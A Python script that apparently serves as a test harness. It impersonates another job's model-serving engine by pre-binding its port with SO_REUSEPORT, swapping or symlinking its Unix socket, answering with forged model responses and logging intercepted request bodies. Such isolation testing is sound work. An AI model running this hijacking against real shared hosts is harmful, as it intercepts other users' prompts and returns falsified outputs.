"""A job that poses as an engine of somebody else, knowing the engine's port and the path of its socket.

It has sockets on the port before the engine is started, and listens on them once its working folder has a file `attack`. Once there
is a file `end`, it prints its successes as JSON.
"""

import http.server
import json
import os
import socket
import threading
import time
import urllib.request

known = json.loads(os.environ["KNOWN"])
forged = json.dumps({"data": [{"id": "forged"}], "choices": [{"text": "forged"}]}).encode()
managed = {"heard": [], "listened": [], "replaced": [], "reached": []}


class Impostor(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        body = self.rfile.read(int(self.headers.get("content-length") or 0)).decode()
        if self.headers.get("x-own") is None:
            managed["heard"].append("%s %s" % (self.path, body))
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(forged)))
        self.end_headers()
        self.wfile.write(forged)

    do_POST = do_GET

    def log_message(self, *_):
        pass


def serve(listening):
    while True:
        connection, _ = listening.accept()
        threading.Thread(target=attend, args=(connection,), daemon=True).start()


def attend(connection):
    try:
        Impostor(connection, ("impostor", 0), None)
    except OSError:
        pass


def bind_port(host):
    """A check of the port finds it free, because only sockets that listen are in the way."""
    taken = socket.socket()
    taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    taken.bind((host, known["port"]))
    return taken


def listen(taken, host):
    taken.listen(1024)
    threading.Thread(target=serve, args=(taken,), daemon=True).start()
    note("listened", host)


def own_socket():
    path = os.path.join(os.getcwd(), "own.sock")
    posing = socket.socket(socket.AF_UNIX)
    posing.bind(path)
    posing.listen(1024)
    threading.Thread(target=serve, args=(posing,), daemon=True).start()
    return path


def note(what, how):
    if how not in managed[what]:
        managed[what].append(how)


def tried(attack, *arguments):
    try:
        return attack(*arguments)
    except (OSError, ValueError):
        return None


def replacing(path, own):
    folder = os.path.dirname(path)
    return {
        "moved away": lambda: os.rename(folder, folder + "-old"),
        "removed": lambda: os.unlink(path),
        "linked": lambda: os.symlink(own, path),
        "renamed": lambda: os.rename(own, path),
        "bound": lambda: socket.socket(socket.AF_UNIX).bind(path),
    }


def replace(how, act):
    act()
    note("replaced", how)


def reach_port():
    request = urllib.request.Request("http://127.0.0.1:%d/v1/models" % known["port"], headers={"x-own": "1"})
    with urllib.request.urlopen(request, timeout=2) as answer:
        if b"genuine" in answer.read():
            note("reached", "port")


def reach_socket():
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(2)
        connection.connect(known["socket"])
        connection.sendall(b"GET /v1/models HTTP/1.1\r\nx-own: 1\r\nconnection: close\r\n\r\n")
        if b"genuine" in connection.makefile("rb").read():
            note("reached", "socket")


def attack(held, own):
    for host, taken in held.items():
        if taken is not None and host not in managed["listened"]:
            tried(listen, taken, host)
    for how, act in replacing(known["socket"], own).items():
        tried(replace, how, act)
    tried(reach_socket)
    tried(reach_port)


def main():
    held = {host: tried(bind_port, host) for host in ("127.0.0.1", "0.0.0.0")}
    own = own_socket()
    print("ready", flush=True)
    while not os.path.exists("end"):
        if os.path.exists("attack"):
            attack(held, own)
            print("attacked", flush=True)
        time.sleep(0.1)
    print(json.dumps(managed), flush=True)
    os._exit(0)


main()
